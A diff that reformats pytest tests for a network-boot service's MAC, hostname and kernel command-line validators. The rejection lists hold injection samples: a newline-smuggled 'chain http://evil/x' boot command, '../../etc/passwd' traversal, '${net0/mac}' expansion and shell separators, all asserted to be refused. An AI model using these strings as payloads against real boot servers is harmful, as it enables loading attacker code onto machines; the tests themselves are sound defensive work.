@@ -7,7 +7,13 @@ from netbootd.model import Arch, MacAddress
 
 @pytest.mark.parametrize(
     "text",
-    ["aa:bb:cc:dd:ee:ff", "AA-BB-CC-DD-EE-FF", "aabb.ccdd.eeff", "AABBCCDDEEFF", " aa:BB:cc:dd:ee:ff "],
+    [
+        "aa:bb:cc:dd:ee:ff",
+        "AA-BB-CC-DD-EE-FF",
+        "aabb.ccdd.eeff",
+        "AABBCCDDEEFF",
+        " aa:BB:cc:dd:ee:ff ",
+    ],
 )
 def test_mac_forms_normalise(text):
     mac = MacAddress.parse(text)
@@ -20,8 +26,17 @@ def test_mac_forms_normalise(text):
 
 @pytest.mark.parametrize(
     "text",
-    ["", "aa:bb:cc:dd:ee", "aa:bb:cc:dd:ee:fg", "aa:bb-cc:dd:ee:ff", "aabb.ccdd.eef",
-     "aa:bb:cc:dd:ee:ff:00", "../../etc/passwd", "aa:bb:cc:dd:ee:ff\nchain x", "ａａbbccddeeff"],
+    [
+        "",
+        "aa:bb:cc:dd:ee",
+        "aa:bb:cc:dd:ee:fg",
+        "aa:bb-cc:dd:ee:ff",
+        "aabb.ccdd.eef",
+        "aa:bb:cc:dd:ee:ff:00",
+        "../../etc/passwd",
+        "aa:bb:cc:dd:ee:ff\nchain x",
+        "ａａbbccddeeff",
+    ],
 )
 def test_bad_macs_rejected(text):
     with pytest.raises(InvalidInput, match="not a MAC address"):
@@ -34,8 +49,17 @@ def test_mac_is_immutable():
         mac._hex = "000000000000"
 
 
-@pytest.mark.parametrize("code,arch", [(0, Arch.BIOS), (6, Arch.UEFI), (7, Arch.UEFI),
-                                       (9, Arch.UEFI), (11, Arch.ARM64), (16, Arch.HTTP)])
+@pytest.mark.parametrize(
+    "code,arch",
+    [
+        (0, Arch.BIOS),
+        (6, Arch.UEFI),
+        (7, Arch.UEFI),
+        (9, Arch.UEFI),
+        (11, Arch.ARM64),
+        (16, Arch.HTTP),
+    ],
+)
 def test_arch_codes(code, arch):
     assert Arch.from_client_arch(code) is arch
 
@@ -50,8 +74,10 @@ def test_hostnames_ok(good):
     assert model.hostname(good.upper()) == good
 
 
-@pytest.mark.parametrize("bad", ["", "-web", "web-", "x" * 64, "a.b", "a b", "a;b", "a\nchain http://x",
-                                 "${net0/mac}", "wéb"])
+@pytest.mark.parametrize(
+    "bad",
+    ["", "-web", "web-", "x" * 64, "a.b", "a b", "a;b", "a\nchain http://x", "${net0/mac}", "wéb"],
+)
 def test_hostnames_bad(bad):
     with pytest.raises(InvalidInput, match="hostname"):
         model.hostname(bad)
@@ -69,8 +95,22 @@ def test_cmdline_accepts_kernel_syntax():
     assert model.cmdline(v) == " ".join(v.split())
 
 
-@pytest.mark.parametrize("bad", ["quiet\nchain http://evil/x", "a=${net0/mac}", "a;b", "a && b",
-                                 "a || b", "a#b", 'a="b"', "a\\b", "a`b`", "x\r", "x\x00"])
+@pytest.mark.parametrize(
+    "bad",
+    [
+        "quiet\nchain http://evil/x",
+        "a=${net0/mac}",
+        "a;b",
+        "a && b",
+        "a || b",
+        "a#b",
+        'a="b"',
+        "a\\b",
+        "a`b`",
+        "x\r",
+        "x\x00",
+    ],
+)
 def test_cmdline_injection_refused(bad):
     with pytest.raises(InvalidInput, match="command line"):
         model.cmdline(bad)
